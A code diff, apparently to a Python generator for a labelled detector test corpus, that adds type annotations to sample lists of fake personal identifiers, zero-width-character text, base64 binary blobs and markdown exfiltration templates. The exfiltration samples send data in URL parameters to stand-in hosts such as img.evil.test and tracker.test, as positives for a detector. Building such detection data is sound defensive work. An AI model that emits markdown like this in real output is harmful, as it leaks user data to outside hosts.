@@ -30,6 +30,7 @@ import string
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass, field
 from pathlib import Path
+from typing import Any
 
 HERE = Path(__file__).resolve().parent
 CORPUS = HERE / "corpus"
@@ -277,7 +278,10 @@ def email(r: random.Random) -> str:
 
 def phone(r: random.Random) -> str:
     kind = r.choice(["us_intl", "uk_intl", "de_intl", "fr_intl", "in_intl", "us_paren", "us_dash", "e164"])
-    d = lambda n: rs(r, string.digits, n)  # noqa: E731
+
+    def d(n: int) -> str:
+        return rs(r, string.digits, n)
+
     if kind == "us_intl":
         return f"+1 {r.randint(201, 989)} {r.randint(200, 999)} {d(4)}"
     if kind == "uk_intl":
@@ -545,7 +549,7 @@ IBAN_CARRIERS = [
     "refund iban={v}",
 ]
 
-NATIONAL_CARRIERS = [
+NATIONAL_CARRIERS: list[tuple[str, Callable[[random.Random], str]]] = [
     ("SSN: {v}", ssn),
     ("The applicant's social security number is {v}.", ssn),
     ("National Insurance number {v}", nino),
@@ -667,7 +671,9 @@ INJECTION_NEGATIVES = [
     "The model card describes the training data and known limitations.",
 ]
 
-HIDDEN_POSITIVES = [  # (text, [labels]) built by functions: invisible chars mid-text
+HIDDEN_POSITIVES: list[
+    Callable[[random.Random], tuple[str, list[str]]]
+] = [  # (text, [labels]) built by functions: invisible chars mid-text
     lambda r: (
         "Totally normal text\u200b\u200bwith zero\u200dwidth characters in\u200bside.",
         ["\u200b\u200b"],
@@ -708,7 +714,7 @@ HIDDEN_NEGATIVES = [
     '<span style="color:red">Warning: the disk is almost full.</span>',
 ]
 
-EXFIL_POSITIVES = [
+EXFIL_POSITIVES: list[Callable[[random.Random, str], str]] = [
     lambda r, d: f"![chart](https://stats-collector.test/pixel.png?d={d})",
     lambda r, d: f"Results ready. ![](https://img.evil.test/i?data={d}&u=1)",
     lambda r, d: f"[Click here for details](https://tracker.test/r?q={d})",
@@ -788,7 +794,7 @@ CUSTOM_NEGATIVES = [
     "TEMP-123456 is a temporary file prefix.",
 ]
 
-BINARY_POSITIVES = [
+BINARY_POSITIVES: list[Callable[[random.Random], str]] = [
     lambda r: "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + r.randbytes(900)).decode(),
     lambda r: "Here is the file: " + base64.b64encode(b"PK\x03\x04" + r.randbytes(1200)).decode(),
     lambda r: "payload=" + base64.b64encode(b"\x7fELF\x02\x01\x01" + r.randbytes(700)).decode(),
@@ -797,7 +803,7 @@ BINARY_POSITIVES = [
     lambda r: "data:application/octet-stream;base64," + base64.b64encode(r.randbytes(600)).decode(),
 ]
 
-BINARY_NEGATIVES = [
+BINARY_NEGATIVES: list[Callable[[random.Random], str]] = [
     lambda r: "data:text/plain;base64," + base64.b64encode(b"hello world, plain text here").decode(),
     lambda r: (
         "Encoded config: " + base64.b64encode(json.dumps({"a": 1, "b": "text " * 20}).encode()).decode()
@@ -845,7 +851,7 @@ SETTINGS = {
 # --------------------------------------------------------------------------- the families
 
 
-def halves(items: list, name: str) -> tuple[list, list]:
+def halves(items: list[Any], name: str) -> tuple[list[Any], list[Any]]:
     """A seeded half/half split of one carrier list: (tuning, heldout)."""
     order = list(range(len(items)))
     random.Random(f"{SPLIT_SEED}:{name}").shuffle(order)
@@ -853,7 +859,7 @@ def halves(items: list, name: str) -> tuple[list, list]:
     return [items[i] for i in sorted(order[:cut])], [items[i] for i in sorted(order[cut:])]
 
 
-def pick(items: list, name: str, which: str) -> list:
+def pick(items: list[Any], name: str, which: str) -> list[Any]:
     tuning, heldout = halves(items, name)
     return tuning if which == "tuning" else heldout
 
